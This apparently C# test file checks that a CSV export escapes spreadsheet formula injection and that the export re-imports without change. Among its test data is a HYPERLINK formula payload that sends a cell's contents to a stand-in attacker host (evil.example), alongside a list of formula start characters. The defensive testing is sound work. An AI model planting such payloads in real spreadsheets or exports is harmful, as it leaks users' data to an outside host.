using Cartography.Data.Writing;
using Cartography.Tests.Shared;
using System.Globalization;
using System.Text;
using Cartography.Core.Content;
using Cartography.Core.Cultures;
using Cartography.Core.Places;
using Cartography.Core.Publishing;
using Cartography.Data.Import;
using Cartography.Data.Tests.Import;
using CsvHelper;

namespace Cartography.Data.Tests.Export;

/// <summary>
/// Text from a public submission ends up in the export: a cell a spreadsheet would run as a formula is written as text
/// (a leading apostrophe), and the import takes the apostrophe off, so the round trip stays exact.
/// </summary>
public sealed class FormulaCellsTests : IAsyncLifetime
{
    private const string Hyperlink = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Cliquez ici\")";
    private static readonly char[] FormulaStarts = ['=', '+', '-', '@', '\t', '\r'];

    private readonly TestDatabase db = new();
    private readonly TestDatabase empty = new();

    public async Task InitializeAsync()
    {
        await db.InitializeAsync();
        await db.SeedAsync(withContent: false);
        await empty.InitializeAsync();
        await empty.SeedAsync(withContent: false);
    }

    public async Task DisposeAsync()
    {
        await db.DisposeAsync();
        await empty.DisposeAsync();
    }

    /// <summary>Formula-like text in every text column the import accepts it in; a file's "''=" is read as "'=".</summary>
    private Task<ImportReport> AddFormulaLikeInitiativeAsync() => db.CsvImporter.ImportAsync(new StringReader(CsvText.File(
        CsvText.Good.With("external_id", "-ext-formula")
            .With("name_fr", Hyperlink).With("name_nl", "-5").With("name_en", "@home")
            .With("description_fr", "=1+1").With("description_nl", "'quoted").With("description_en", "''=1+1 keeps one apostrophe")
            .With("organisation", "+Org @ Namur").With("street", "-Rue de Fer 1").With("city", "=Namur")
            .With("email", "=contact@relais.example.org").With("phone", "+32 2 555 01 01"))), Actor.System("test"));

    /// <summary>What only a direct write can store (the import trims its cells): a street and a city starting with a tab or a carriage return.</summary>
    private async Task AddInitiativeWithLeadingWhitespaceAsync()
    {
        await RowsPastTheRules.PublishAsync(db.Database, "whitespace", new Initiative
        {
            Name = LocalizedText.Of(fr: "Tabulé"), Sectors = ["housing"], Types = ["groups"], Status = "volunteer",
            Address = new Address("\t-Rue", "1000", "\rBruxelles"), Slug = LocalizedText.Of("tabule", "tabule", "tabule"), LastVerified = new DateOnly(2026, 1, 1),
        });
    }

    private static async Task<byte[]> ExportAsync(TestDatabase database)
    {
        using var file = new MemoryStream();
        await database.CsvExporter.ExportAsync(file);
        return file.ToArray();
    }

    private static Dictionary<string, string[]> RowsByExternalId(byte[] file)
    {
        using var parser = new CsvParser(new StreamReader(new MemoryStream(file), Encoding.UTF8, true), CultureInfo.InvariantCulture);
        var rows = new Dictionary<string, string[]>();
        parser.Read();
        while (parser.Read()) rows[parser.Record![0].TrimStart('\'')] = parser.Record;
        return rows;
    }

    [Fact]
    public async Task No_exported_cell_starts_like_a_formula_and_those_that_would_start_with_an_apostrophe()
    {
        Assert.All((await AddFormulaLikeInitiativeAsync()).Rows, r => Assert.Equal(ImportRowStatus.Created, r.Status));
        await AddInitiativeWithLeadingWhitespaceAsync();

        var rows = RowsByExternalId(await ExportAsync(db));

        Assert.All(rows.Values.SelectMany(r => r), cell => Assert.False(cell.Length > 0 && FormulaStarts.Contains(cell[0]), $"'{cell}' starts like a formula"));
        var cells = CsvColumns.All.Zip(rows["-ext-formula"]).ToDictionary(p => p.First, p => p.Second);
        Assert.Equal("'-ext-formula", cells["external_id"]);
        Assert.Equal("'" + Hyperlink, cells["name_fr"]);
        Assert.Equal(("'-5", "'@home", "'=1+1"), (cells["name_nl"], cells["name_en"], cells["description_fr"]));
        Assert.Equal(("'quoted", "''=1+1 keeps one apostrophe"), (cells["description_nl"], cells["description_en"]));
        // A city is stored as its postal place is spelt ("=Namur" names Namur): nothing of a formula is left in it.
        Assert.Equal(("'+Org @ Namur", "'-Rue de Fer 1", "Namur"), (cells["organisation"], cells["street"], cells["city"]));
        Assert.Equal(("'=contact@relais.example.org", "'+32 2 555 01 01"), (cells["email"], cells["phone"]));
        Assert.Equal(("'\t-Rue", "'\rBruxelles"), (rows["whitespace"][11], rows["whitespace"][13]));
    }

    [Fact]
    public async Task Importing_the_export_into_the_same_database_reports_formula_like_rows_unchanged()
    {
        await AddFormulaLikeInitiativeAsync();
        await AddInitiativeWithLeadingWhitespaceAsync();

        var report = await db.CsvImporter.ImportAsync(new StreamReader(new MemoryStream(await ExportAsync(db))), Actor.System("round trip"));

        Assert.Equal(["-ext-formula", "whitespace"], report.Rows.Select(r => r.ExternalId).Order());
        Assert.All(report.Rows, r => Assert.Equal(ImportRowStatus.Unchanged, r.Status));
    }

    [Fact]
    public async Task Importing_the_export_into_an_empty_database_gives_back_the_exact_texts()
    {
        await AddFormulaLikeInitiativeAsync();
        await AddInitiativeWithLeadingWhitespaceAsync();

        var report = await empty.CsvImporter.ImportAsync(new StreamReader(new MemoryStream(await ExportAsync(db))), Actor.System("round trip"));

        Assert.All(report.Rows, r => Assert.Equal(ImportRowStatus.Created, r.Status));
        var copy = (await empty.Store.PublishedAsync<Initiative>()).ToDictionary(i => i.Key!, i => i.Content);
        var formula = copy["-ext-formula"];
        Assert.Equal(LocalizedText.Of(Hyperlink, "-5", "@home"), formula.Name);
        Assert.Equal(LocalizedText.Of("=1+1", "'quoted", "'=1+1 keeps one apostrophe"), formula.Description);
        Assert.Equal(new Address("-Rue de Fer 1", "5000", "Namur") { Municipality = "92094" }, formula.Address);
        Assert.Equal(new PublicContact("=contact@relais.example.org", "+32 2 555 01 01"), formula.Contact);
        var organisation = (await empty.Store.PublishedAsync<Organisation>()).Single(o => o.Id == formula.OrganisationId);
        Assert.Equal("+Org @ Namur", organisation.Content.Name.In(Culture.Fr));
        Assert.Equal(new Address("\t-Rue", "1000", "Bruxelles") { Municipality = "21004" }, copy["whitespace"].Address);
    }
}
